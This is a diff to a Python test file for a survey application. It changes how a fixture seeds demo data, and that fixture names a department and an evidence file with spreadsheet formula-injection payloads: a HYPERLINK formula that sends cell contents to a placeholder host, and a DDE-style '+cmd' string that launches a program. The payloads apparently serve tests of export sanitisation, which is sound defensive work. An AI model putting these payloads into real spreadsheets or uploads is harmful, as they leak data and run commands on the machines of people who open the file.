@@ -15,8 +15,9 @@ from surveyapp.definitions.spreadsheet import FORMULA_TRIGGERS
 from surveyapp.domain.kinds import kind_of
 from surveyapp.extensions import db
 from surveyapp.models import Answer, AssessmentRound, Organisation, Response
+from surveyapp.services.demo import seed_demo
 from surveyapp.services.scores import rebuild_aggregates, store_scores
-from tests.helpers import seed, sign_in
+from tests.helpers import sign_in
 
 HOSTILE = '=HYPERLINK("http://example.invalid/?d="&A2,"示范部门")'
 HOSTILE_FILE = '+cmd|"/c calc"!A1.pdf'
@@ -42,8 +43,8 @@ def _answer_all(round_, organisation_id: int, strength: float) -> None:
 def hostile(app, runner, create_user):
     """A seeded round: the first department is named with a formula and has an evidence file named with
     one; the second is the strongest by index but has hit a red line; the third is weaker and passes."""
-    round_id = seed(runner, departments=4, respondents=5)
-    with app.app_context():
+    with app.app_context():  # version 1: the red line below is one of its items
+        round_id = seed_demo(4, 5, 7, questionnaire_version=1).round_id
         round_ = db.session.get(AssessmentRound, round_id)
         named, red, passing, _ = sorted(round_.departments, key=lambda d: d.code)
         named.name_zh_hans = named.name_zh_hant = named.name_en = HOSTILE
